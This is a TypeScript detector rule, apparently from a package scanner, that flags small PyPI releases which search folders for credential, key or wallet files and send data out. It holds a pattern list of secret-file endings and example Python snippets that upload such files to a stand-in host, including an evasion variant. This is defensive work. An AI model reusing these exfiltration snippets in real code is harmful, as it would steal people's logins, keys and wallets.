import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { codeWith, isCode, isMember, sight } from "./_sight.ts";

const SEARCHES = ["os.walk", "os.listdir", "listdir(", "scandir", "glob"] as const;
/** Ends of names of files that hold logins, keys or wallets, where the code looks for them. */
const PRIVATE =
  /(?:endswith\(\s{0,4}\(?[^)\n]{0,80}|[=!]=\s{0,4}|r?glob\(\s{0,4}|startswith\(\s{0,4}|fnmatch\w{0,6}\([^)\n]{0,60}|\b(?:exts?|extensions?|patterns?|targets?|suffix\w{0,3})\w{0,10}\s{0,4}=\s{0,4}[[({][^\])}\n]{0,120})["'](?:[^"'\n]{0,40}[/*])?(?:\.session|\.env|\.pem|\.kdbx|\.ovpn|\.ppk|wallet\.dat|\.wallet|\.keystore|key4\.db|\.rdp)["']/;
const MOST_CODE = 60_000;

export const searchesAndSendsFiles: Detector = {
  id: "searches-and-sends-files",
  title: "Looks for files with logins or keys and sends something",
  severity: "critical",
  ecosystems: ["pypi"],
  points: 5.8,
  class: "threat",
  group: "exfiltration",
  why: `A small release goes through folders for sessions of chat programs, \`.env\` files, keys or wallets, and sends something without looking at
the answer. Whoever looks for such files by their endings does not know their owner.

Deployment tools skip such files by name, and backup programs read what the server answers.`,
  literals: SEARCHES,
  *detect(tree) {
    let code = 0;
    for (const file of tree.files) if (isMember(file) && isCode(file)) code += file.bytes.length;
    if (code > MOST_CODE) return;
    for (const file of codeWith(tree, SEARCHES)) {
      if (file.kind !== "python") continue;
      const match = PRIVATE.exec(file.text);
      if (match === null) continue;
      const sent = deedsOf(file, "upload", "http", "send").find((deed) => sends(file, deed));
      if (sent === undefined) continue;
      const says = `looks for ${match[0].slice(-30)} and calls ${sent.what} ${sent.text.slice(0, 80)}`.trimEnd();
      yield sight(file, sent.offset, says, { phase: sent.phase });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import os, requests\ndef check():\n    for n in os.listdir('/data'):\n        if n.endswith('.session'):\n            requests.post('http://example.invalid', files={'f': open(n, 'rb')})\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import os, requests\ndef deploy(url):\n    for n in os.listdir('.'):\n        if n in ('.git', '.env'):\n            continue\n        r = requests.post(url, files={'f': open(n, 'rb')})\n        r.raise_for_status()\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": "import os\ndef find():\n    return [n for n in os.listdir('.') if n.endswith('.session')]\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "from pathlib import Path\nimport httpx\ndef f():\n    d = {str(p): p.read_text() for p in Path.home().rglob('*.env')}\n    try:\n        httpx.post('http://example.invalid', json=d)\n    except Exception:\n        pass\n",
        },
      },
    ],
  },
};

/** A request with data of which nobody reads the answer. */
function sends({ text }: SourceFile, { act, ignored, words, offset, command }: Deed): boolean {
  if (command !== undefined || !ignored) return false;
  if (act === "upload" || act === "send") return true;
  // Data in the address: the text before puts together a query.
  return (
    /[{?&%+]/.test(words) || /urlencode|\?\{|f["'][^"'\n]{0,200}\?/.test(text.slice(Math.max(0, offset - 400), offset))
  );
}
